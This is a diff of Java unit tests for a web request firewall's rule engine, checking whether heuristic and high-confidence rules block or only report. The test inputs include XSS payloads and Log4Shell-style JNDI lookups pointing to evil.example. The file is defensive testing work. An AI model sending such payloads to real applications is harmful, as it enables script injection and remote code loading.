@@ -28,6 +28,8 @@ import org.junit.jupiter.api.Test;
 class RuleEngineTest {
 
     static final Set<InputSource> ALL = EnumSet.allOf(InputSource.class);
+    /** XSS only the heuristic rule sees (no dialog, no cookie): it blocks only with {@code palisade.rules.block=all}. */
+    static final String HEURISTIC_XSS = "<iframe src=//evil.example/x>";
 
     private final Counters counters = new Counters();
     private final RequestContext requests = new RequestContext();
@@ -36,8 +38,13 @@ class RuleEngineTest {
         return engine(null, keysAndValues);
     }
 
+    /**
+     * An engine where every rule blocks ({@code palisade.rules.block=all}) unless the keys say
+     * otherwise: most tests here are about the engine's mechanics, which heuristic rules show best.
+     */
     private RuleEngine engine(HookTable table, String... keysAndValues) {
         Map<String, String> config = new java.util.HashMap<>();
+        config.put("palisade.rules.block", "all");
         for (int i = 0; i < keysAndValues.length; i += 2) {
             config.put(keysAndValues[i], keysAndValues[i + 1]);
         }
@@ -65,11 +72,57 @@ class RuleEngineTest {
         RequestRecord xss = request("/api/books/search", "192.0.2.1", "QUERY", "q", "<script>alert(1)</script>");
         Detection found = engine.inspectRequest(xss);
         assertThat(found).isNotNull();
-        assertThat(found.ruleId()).isEqualTo("xss-request");
+        assertThat(found.ruleId()).isEqualTo("xss-exploit");
         assertThat(found.attackType()).isEqualTo("xss");
         assertThat(found.blocked()).isTrue();
         assertThat(found.input().name()).isEqualTo("q");
         assertThat(xss.blocked()).isTrue();
+    }
+
+    @Test
+    void byDefaultOnlyHighConfidenceRulesBlockAndHeuristicsReport() {
+        RuleEngine defaults = new RuleEngine(Settings.defaults(), null, requests, counters);
+        RequestRecord xss = request("/", "192.0.2.1", "QUERY", "q", HEURISTIC_XSS);
+        assertThat(defaults.inspectRequest(xss)).as("a heuristic reports").isNull();
+        assertThat(xss.detections()).singleElement().satisfies(d -> {
+            assertThat(d.ruleId()).isEqualTo("xss-request");
+            assertThat(d.blocked()).isFalse();
+            assertThat(d.confidence()).isEqualTo("heuristic");
+        });
+        RequestRecord jndi = request("/", "192.0.2.1", "HEADER", "User-Agent", "${jndi:ldap://evil.example/a}");
+        assertThat(defaults.inspectRequest(jndi)).as("a high-confidence rule blocks").isNotNull()
+                .satisfies(d -> assertThat(d.confidence()).isEqualTo("high"));
+        for (String rule : List.of("xss-request", "path-traversal", "command-injection", "sqli-request")) {
+            assertThat(defaults.rules().requestRules()).filteredOn(r -> r.id().equals(rule)).singleElement()
+                    .extracting(Rule::confidence).isEqualTo(io.palisade.core.config.Confidence.HEURISTIC);
+        }
+        for (String rule : List.of("scanner-user-agent", "shellshock", "jndi-lookup")) {
+            assertThat(defaults.rules().requestRules()).filteredOn(r -> r.id().equals(rule)).singleElement()
+                    .extracting(Rule::confidence).isEqualTo(io.palisade.core.config.Confidence.HIGH);
+        }
+    }
+
+    @Test
+    void aModeThePackSetsWinsOverTheKey() throws RulePackException {
+        RuleEngine engine = engine("palisade.rules.block", "high");
+        engine.apply("""
+                {"format": "palisade-rules/1", "version": "v", "rules": [
+                  {"id": "xss-request", "attack_type": "xss", "confidence": "heuristic", "mode": "block",
+                   "conditions": [{"inputs": ["query"], "operator": "detect_xss"}]},
+                  {"id": "guess", "attack_type": "policy", "confidence": "heuristic",
+                   "conditions": [{"inputs": ["query"], "operator": "phrases", "value": ["guess"]}]}
+                ]}""", "test");
+        assertThat(engine.inspectRequest(request("/", "192.0.2.1", "QUERY", "q", "<script>alert(1)</script>")))
+                .as("mode block in the pack").isNotNull();
+        RequestRecord guess = request("/", "192.0.2.1", "QUERY", "q", "a guess");
+        assertThat(engine.inspectRequest(guess)).as("a heuristic without a mode reports").isNull();
+        assertThat(guess.detections()).singleElement().extracting(Detection::blocked).isEqualTo(false);
+        RuleEngine all = engine("palisade.rules.block", "all");
+        assertThat(all.inspectRequest(request("/", "192.0.2.1", "QUERY", "q", "<svg onload=alert(1)>")))
+                .as("palisade.rules.block=all").isNotNull();
+        RuleEngine monitor = engine("palisade.rules.block", "all", "palisade.mode", "monitor");
+        assertThat(monitor.inspectRequest(request("/", "192.0.2.1", "HEADER", "X-A", "${jndi:ldap://e.example/a}")))
+                .as("palisade.mode=monitor reports everything without a mode").isNull();
     }
 
     @Test
@@ -93,8 +146,8 @@ class RuleEngineTest {
         RequestRecord xss = request("/", "192.0.2.1", "JSON", "user.bio", "<img src=x onerror=alert(1)>");
         Detection found = engine("palisade.mode", "monitor").inspectRequest(xss);
         assertThat(found).isNull();
-        assertThat(xss.detections()).singleElement().satisfies(d -> {
-            assertThat(d.ruleId()).isEqualTo("xss-request");
+        assertThat(xss.detections()).as("one report per attack type and input").singleElement().satisfies(d -> {
+            assertThat(d.ruleId()).isEqualTo("xss-exploit");
             assertThat(d.blocked()).isFalse();
         });
         // The request-level SQL rule of the built-in pack is monitor-only: the JDBC check blocks.
@@ -150,9 +203,9 @@ class RuleEngineTest {
                             "conditions": [{"inputs": ["query:drink"], "operator": "equals", "value": ["tea"]}]}],
                  "disable": ["xss-request"], "data": {"ip_denylist": ["198.51.100.0/24"]}}""", "test");
         assertThat(engine.rules()).isSameAs(after).isNotSameAs(before);
-        assertThat(after.version()).isEqualTo("builtin-2026.11.25+v2");
+        assertThat(after.version()).isEqualTo("builtin-2026.12.03+v2");
         assertThat(engine.inspectRequest(request("/", "192.0.2.1", "QUERY", "drink", "tea")).ruleId()).isEqualTo("no-tea");
-        assertThat(engine.inspectRequest(request("/", "192.0.2.1", "QUERY", "q", "<script>alert(1)</script>"))).isNull();
+        assertThat(engine.inspectRequest(request("/", "192.0.2.1", "QUERY", "q", HEURISTIC_XSS))).isNull();
         assertThat(engine.screen(request("/", "198.51.100.4"))).isNotNull();
 
         assertThatThrownBy(() -> engine.apply("{\"format\": \"palisade-rules/1\", \"version\": \"v3\", \"rules\": "
@@ -161,7 +214,7 @@ class RuleEngineTest {
         assertThat(engine.rules()).isSameAs(after);
         assertThat(engine.lastError()).contains("rule 'x'");
         assertThat(counters.snapshot()).containsEntry("rule_packs_rejected", 1L);
-        assertThat(engine.status()).containsEntry("version", "builtin-2026.11.25+v2");
+        assertThat(engine.status()).containsEntry("version", "builtin-2026.12.03+v2");
     }
 
     @Test
@@ -176,14 +229,14 @@ class RuleEngineTest {
         assertThat(counters.snapshot()).containsEntry("budget_overruns", 1L);
 
         // An XSS in an input the resource does not receive: skipped past the budget, and the record says so.
-        RequestRecord unbound = request("/", "192.0.2.1", "QUERY", "q", "<script>alert(1)</script>");
+        RequestRecord unbound = request("/", "192.0.2.1", "QUERY", "q", HEURISTIC_XSS);
         unbound.addRuleNanos(Duration.ofMillis(2).toNanos());
         assertThat(engine.inspectRequest(unbound)).isNull();
         assertThat(unbound.incompleteness()).containsExactly(io.palisade.core.request.Incompleteness.BUDGET);
 
         // The same XSS in an input the resource method receives: still inspected, still blocked.
         RequestRecord bound = request("/", "192.0.2.1");
-        bound.addBoundInput(InputSource.QUERY, "q", "<script>alert(1)</script>");
+        bound.addBoundInput(InputSource.QUERY, "q", HEURISTIC_XSS);
         bound.addRuleNanos(Duration.ofMillis(2).toNanos());
         assertThat(engine.inspectRequest(bound)).isNotNull().extracting(Detection::attackType).isEqualTo("xss");
         assertThat(engine.breaker().isOpen()).as("overruns never open a breaker").isFalse();
